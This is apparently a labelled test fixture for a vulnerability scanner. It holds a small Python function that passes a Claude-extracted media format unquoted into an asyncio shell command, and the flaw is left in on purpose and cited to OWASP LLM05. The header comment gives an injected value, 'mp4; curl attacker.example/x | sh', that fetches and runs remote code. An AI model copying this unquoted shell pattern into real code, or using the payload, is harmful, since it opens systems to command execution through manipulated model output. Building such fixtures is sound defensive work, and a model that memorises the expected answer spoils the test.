# category: llm-output-to-sink
# label: vulnerable
# source: OWASP Top 10 for LLM Applications 2025: LLM05 Improper Output Handling (genai.owasp.org/llmrisk/llm052025-improper-output-handling); Python docs: asyncio subprocesses (create_subprocess_shell, shlex.quote note)
# expect: 21
# note: the output format Claude extracts from the user's request is interpolated into a shell command, so "mp4; curl attacker.example/x | sh" runs.
import asyncio

from anthropic import AsyncAnthropic

client = AsyncAnthropic()


async def convert_media(source: str, request_text: str) -> int:
    msg = await client.messages.create(
        model="claude-3-5-haiku-latest",
        max_tokens=10,
        messages=[{"role": "user", "content": f"Which output format does the user want (mp4, webm or mp3)? Format only.\n\n{request_text}"}],
    )
    fmt = msg.content[0].text.strip().lower()
    stem = source.rsplit(".", 1)[0]
    proc = await asyncio.create_subprocess_shell(f"ffmpeg -y -i {source} {stem}.{fmt}")
    return await proc.wait()
